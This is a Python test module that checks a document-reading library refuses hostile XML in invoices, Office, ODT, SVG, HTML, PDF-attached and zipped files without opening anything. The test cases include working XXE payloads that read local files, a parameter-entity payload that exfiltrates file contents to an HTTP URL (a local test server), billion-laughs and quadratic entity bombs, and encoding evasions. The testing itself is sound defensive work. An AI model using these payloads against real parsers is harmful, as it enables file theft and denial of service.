"""XML that reaches for more than its values: in every file that XML can lie in, and nothing is ever opened.

Each file goes through the engines in this process, where no lock would stop it, and through the sandbox.
"""

import io
import os
import threading
from collections.abc import AsyncIterator, Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pypdfium2
import pytest
from tests.bombs import office
from tests.bombs.archives import plain_zip
from tests.contract.blank_ocr import BlankOcr
from tests.unit.reading.papers import line, pdf

from docmill.adapters.sandbox import SandboxedReader
from docmill.domain.errors import ErrorCode, Rejected
from docmill.domain.pages import Reading
from docmill.engines import reading
from docmill.engines.reading.wire.codec import encode

SECRET = "not-for-strangers"
FORBIDDEN = ErrorCode.XML_FORBIDDEN.value
LAUGHS = '<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {name} "' + f"&{before};" * 10 + '">' for before, name in zip("abcdefgh", "bcdefghi", strict=True)
)  # fmt: skip


@dataclass
class Bait:
    """A file and a server that notice whoever opens them."""

    path: Path
    server: ThreadingHTTPServer
    asked: list[str] = field(default_factory=list)

    @property
    def file(self) -> str:
        return self.path.as_uri()

    @property
    def http(self) -> str:
        return f"http://127.0.0.1:{self.server.server_port}/x"

    def lay_out(self) -> None:
        """Older than any look at it: the next one changes the time of access."""
        self.asked.clear()
        os.utime(self.path, ns=(1, 2))

    def taken(self) -> bool:
        return bool(self.asked) or self.path.stat().st_atime_ns != 1


@pytest.fixture(scope="module")
def bait(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Bait]:
    path = tmp_path_factory.mktemp("bait") / "secret.txt"
    path.write_text(SECRET)

    class Noticing(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.asked.append(self.path)
            self.send_error(404)

        def log_message(self, *_: object) -> None: ...

    with ThreadingHTTPServer(("127.0.0.1", 0), Noticing) as server:
        found = Bait(path, server)
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
        thread.start()
        yield found
        server.shutdown()
        thread.join()


@pytest.fixture(scope="module")
async def reader() -> AsyncIterator[SandboxedReader]:
    made = SandboxedReader(ocr=BlankOcr())
    yield made
    await made.close()


def test_the_bait_notices_who_takes_it(bait: Bait) -> None:
    bait.lay_out()
    assert not bait.taken()
    bait.path.read_bytes()
    assert bait.taken()


@dataclass(frozen=True)
class Attack:
    """What is put into an XML file: before its root, as its first text, into an attribute of the root.

    ``forbidden`` where docmill says so of every XML; what merely looks like a reference is no fault of it.
    """

    prolog: str = ""
    content: str = "1"
    attribute: str = ""
    encoding: str = "utf-8"
    forbidden: bool = True

    def put_into(self, xml: str, bait: Bait) -> bytes:
        """``xml`` has a root whose start tag ends in ``@`` and the word CONTENT."""
        declared = "utf-8" if self.encoding.endswith("-sig") else self.encoding
        text = f'<?xml version="1.0" encoding="{declared}"?>' + self.prolog
        text += xml.replace("@", self.attribute, 1).replace("CONTENT", self.content, 1)
        text = (
            text.replace("{file}", bait.file).replace("{http}", bait.http).replace("{path}", str(bait.path))
        )
        if self.encoding == "utf-7":
            head, _, rest = text.partition("<!")
            return (head + "+ADwAIQ-" + rest).encode("ascii")
        return text.encode(self.encoding)


XI = ' xmlns:xi="http://www.w3.org/2001/XInclude"'
XSI = ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
ATTACKS = {
    "a file as an entity": Attack('<!DOCTYPE i [<!ENTITY x SYSTEM "{file}">]>', "&x;"),
    "a bare path as an entity": Attack('<!DOCTYPE i [<!ENTITY x SYSTEM "{path}">]>', "&x;"),
    "a path upward as an entity": Attack('<!DOCTYPE i [<!ENTITY x SYSTEM "../../../../../{path}">]>', "&x;"),
    "a page of the web as an entity": Attack('<!DOCTYPE i [<!ENTITY x SYSTEM "{http}">]>', "&x;"),
    "a public entity": Attack('<!DOCTYPE i [<!ENTITY x PUBLIC "-//W3C//TEXT" "{http}">]>', "&x;"),
    "a file as an entity in an attribute": Attack(
        '<!DOCTYPE i [<!ENTITY x SYSTEM "{file}">]>', attribute=' a="&x;"'
    ),
    "laughs in an attribute": Attack(f"<!DOCTYPE i [{LAUGHS}]>", attribute=' a="&i;"'),
    "a billion laughs": Attack(f"<!DOCTYPE i [{LAUGHS}]>", "&i;"),
    "quadratic entities": Attack(f'<!DOCTYPE i [<!ENTITY a "{"x" * 50_000}">]>', "&a;" * 20_000),
    "an entity of itself": Attack('<!DOCTYPE i [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"),
    "a parameter entity from the web": Attack('<!DOCTYPE i [<!ENTITY % x SYSTEM "{http}"> %x;]>'),
    "a parameter entity of a file": Attack('<!DOCTYPE i [<!ENTITY % x SYSTEM "{file}"> %x;]>'),
    "a parameter entity that sends a file away": Attack(
        '<!DOCTYPE i [<!ENTITY % f SYSTEM "{file}"><!ENTITY % s "<!ENTITY &#37; t SYSTEM \'{http}?%f;\'>">%s;%t;]>'
    ),
    "a document type from the web": Attack('<!DOCTYPE i SYSTEM "{http}">'),
    "a document type in a file": Attack('<!DOCTYPE i SYSTEM "{file}">'),
    "a public document type": Attack('<!DOCTYPE i PUBLIC "-//W3C//DTD XHTML 1.0//EN" "{http}">', "&nbsp;"),
    "a document type alone": Attack("<!DOCTYPE i>"),
    "a document type after remarks": Attack("<!-- > --><?a b?>\n<!-- <a> --><!DOCTYPE i>"),
    "an attribute that is declared": Attack('<!DOCTYPE i [<!ATTLIST i a CDATA "b">]>'),
    "a notation": Attack('<!DOCTYPE i [<!NOTATION n SYSTEM "{http}"><!ENTITY x SYSTEM "{file}" NDATA n>]>'),
    "a document type in UTF-16": Attack(
        '<!DOCTYPE i [<!ENTITY x SYSTEM "{file}">]>', "&x;", encoding="utf-16"
    ),
    "a document type in UTF-16 without a mark": Attack(
        '<!DOCTYPE i [<!ENTITY x SYSTEM "{file}">]>', "&x;", encoding="utf-16-le"
    ),
    "a document type in UTF-7": Attack('<!DOCTYPE i [<!ENTITY x SYSTEM "{file}">]>', "&x;", encoding="utf-7"),
    "a document type behind a mark": Attack(
        '<!DOCTYPE i [<!ENTITY x SYSTEM "{file}">]>', "&x;", encoding="utf-8-sig"
    ),
    "an inclusion of a file": Attack("", '<xi:include href="{file}" parse="text"/>', XI),
    "an inclusion from the web": Attack("", '<xi:include href="{http}"/>', XI),
    "a schema in a file": Attack("", "1", XSI + ' xsi:schemaLocation="urn:x {file}"', forbidden=False),
    "a schema from the web": Attack(
        "", "1", XSI + ' xsi:noNamespaceSchemaLocation="{http}"', forbidden=False
    ),
    "a style sheet from the web": Attack('<?xml-stylesheet type="text/xsl" href="{http}"?>', forbidden=False),
    "a style sheet in a file": Attack('<?xml-stylesheet type="text/xsl" href="{file}"?>', forbidden=False),
    "a base elsewhere": Attack("", "1", ' xml:base="{http}"', forbidden=False),
}

UBL = '<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"@><ID>CONTENT</ID></Invoice>'
CII = (
    '<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"@>'
    "<ID>CONTENT</ID></rsm:CrossIndustryInvoice>"
)
FATTURA = '<p:FatturaElettronica xmlns:p="urn:x"@><ID>CONTENT</ID></p:FatturaElettronica>'
WORD = f'<w:document xmlns:w="{office.WORD}"@><w:body><w:p><w:r><w:t>CONTENT</w:t></w:r></w:p></w:body></w:document>'
SHEET = f'<worksheet xmlns="{office.SHEET}"@><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>CONTENT</t></is></c></row></sheetData></worksheet>'
SLIDE = f'<p:sld xmlns:p="{office.SLIDE}" xmlns:a="{office.DRAWING}"@><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>CONTENT</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>'
RELATIONS = (
    f'<Relationships xmlns="{office.RELATIONS}"@><Relationship Id="r1" Type="{office.OFFICE}/officeDocument" '
    'Target="word/document.xml"/><X>CONTENT</X></Relationships>'
)
ODT = (
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"@><office:body><office:text><text:p>CONTENT'
    "</text:p></office:text></office:body></office:document-content>"
)
SVG = '<svg xmlns="http://www.w3.org/2000/svg"@><text>CONTENT</text></svg>'
HTML = '<html xmlns="http://www.w3.org/1999/xhtml"@><body><p>CONTENT</p></body></html>'


def _docx_with_relations(xml: bytes) -> bytes:
    body = f'<w:document xmlns:w="{office.WORD}"><w:body/></w:document>'
    return office.package({"word/document.xml": body, "_rels/.rels": xml})


def _hybrid(xml: bytes) -> bytes:
    document = pypdfium2.PdfDocument(pdf(line("Invoice INV-7")))
    document.new_attachment("factur-x.xml").set_data(xml)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


Wrap = Callable[[bytes], bytes]
CONTAINERS: dict[str, tuple[str, str, Wrap]] = {
    "ubl.xml": (UBL, FORBIDDEN, bytes),
    "cii.xml": (CII, FORBIDDEN, bytes),
    "fattura.xml": (FATTURA, FORBIDDEN, bytes),
    "hybrid.pdf": (CII, f"attachment {FORBIDDEN}", _hybrid),
    "word.docx": (WORD, FORBIDDEN, office.word),
    "relations.docx": (RELATIONS, FORBIDDEN, _docx_with_relations),
    "book.xlsx": (SHEET, FORBIDDEN, office.book),
    "show.pptx": (SLIDE, FORBIDDEN, lambda xml: office.slides(xml, '<p:sldId id="256" r:id="r1"/>')),
    "text.odt": (ODT, FORBIDDEN, office.odt),
    "drawing.svg": (SVG, "", bytes),
    "page.html": (HTML, "", bytes),
    "pile.zip": (UBL, "", lambda xml: plain_zip({"a.xml": xml})),
}
"""The XML, what is said of it when it is forbidden ("" where it is not taken for XML), and the file of it."""


@pytest.mark.parametrize("container", CONTAINERS)
@pytest.mark.parametrize("attack", ATTACKS)
async def test_nothing_is_opened_and_the_xml_is_refused(
    attack: str, container: str, bait: Bait, reader: SandboxedReader
) -> None:
    xml, refusal, wrap = CONTAINERS[container]
    data = wrap(ATTACKS[attack].put_into(xml, bait))
    bait.lay_out()
    here = _verdict(lambda: reading.read(data, container))
    assert not bait.taken()
    try:
        there = _told(await reader.read(data, container))
    except Rejected as refused:
        there = refused.code.value
    assert not bait.taken()
    assert here == there
    assert here not in (ErrorCode.READER_CRASHED.value, ErrorCode.READER_LIMIT.value)
    if refusal and ATTACKS[attack].forbidden:
        assert here == refusal


def _verdict(read: Callable[[], Reading]) -> str:
    try:
        return _told(read())
    except Rejected as refused:
        return refused.code.value


def _told(found: Reading) -> str:
    """What became of the file. The secret is in no word, tree or name of it."""
    assert SECRET.encode() not in encode(found)
    for attachment in found.attachments:
        if attachment.error:
            return f"attachment {attachment.error}"
    return "read"
